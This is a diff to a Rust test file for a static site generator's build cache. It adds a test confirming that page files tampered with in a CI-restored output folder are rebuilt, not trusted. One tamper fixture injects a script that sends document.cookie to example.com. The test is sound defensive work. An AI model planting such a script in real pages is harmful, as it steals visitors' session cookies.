@@ -49,7 +49,7 @@ fn a_corrupt_cache_is_ignored_with_a_warning() {
     let cases: Vec<(&str, &str, Vec<u8>)> = vec![
         ("garbage", "cache/opsbook-cache", b"not a cache at all".to_vec()),
         ("cut short", "cache/opsbook-cache", blocks[..blocks.len() / 2].to_vec()),
-        ("a forged header", "cache/opsbook-cache", [b"opsbook-cache 3\n".as_slice(), &[0xff; 64]].concat()),
+        ("a forged header", "cache/opsbook-cache", [b"opsbook-cache 4\n".as_slice(), &[0xff; 64]].concat()),
         ("page records cut short", "cache/opsbook-pages", pages[..pages.len() - 9].to_vec()),
     ];
     for (what, path, bytes) in cases {
@@ -82,6 +82,38 @@ fn a_changed_byte_in_a_kept_index_file_is_never_published() {
     site.write("cache/opsbook-cache", forged);
     let printed = build_again(&site);
     assert!(printed.contains("warning: the build cache") && printed.contains("is not used"), "{printed}");
+}
+
+/// The output folder comes back from a CI cache beside the build cache, and either may
+/// be another pipeline's: a page file changed there (a script slipped in, of the same
+/// length or not) is never kept on the cache's word, though the page's template
+/// context is the one the cache knows. Each is rendered and written again.
+#[test]
+fn a_page_file_changed_in_a_restored_output_is_written_again() {
+    let site = handbook("cache-dir-restored-output");
+    let page = site.read("public/p/index.html");
+    let same_length = page.replacen("<main", "<mai\u{0}", 1);
+    assert_eq!(same_length.len(), page.len());
+    let longer = page.replacen("</body>", "<script>fetch('https://example.com/?'+document.cookie)</script></body>", 1);
+    assert_ne!(longer, page);
+    for forged in [same_length, longer] {
+        site.build(&["--cache-dir", "cache"]).expect_code(0);
+        site.write("public/p/index.html", &forged);
+        let run = site.build(&["--cache-dir", "cache"]);
+        run.expect_code(0);
+        assert!(
+            listing(&site, "public") == listing(&site, "fresh"),
+            "the output differs from a build without the cache"
+        );
+    }
+    // As a CI restores it: the whole folder and its manifest copied, new inodes.
+    let _ = std::fs::remove_dir_all(site.root.join("restored"));
+    crate::util::copy_dir(&site.root.join("public"), &site.root.join("restored"));
+    std::fs::remove_dir_all(site.root.join("public")).expect("remove the output");
+    std::fs::rename(site.root.join("restored"), site.root.join("public")).expect("restore the output");
+    site.write("public/p/index.html", page.replacen("</body>", "<!-- forged --></body>", 1));
+    site.build(&["--cache-dir", "cache"]).expect_code(0);
+    assert!(listing(&site, "public") == listing(&site, "fresh"), "the output differs from a build without the cache");
 }
 
 #[test]
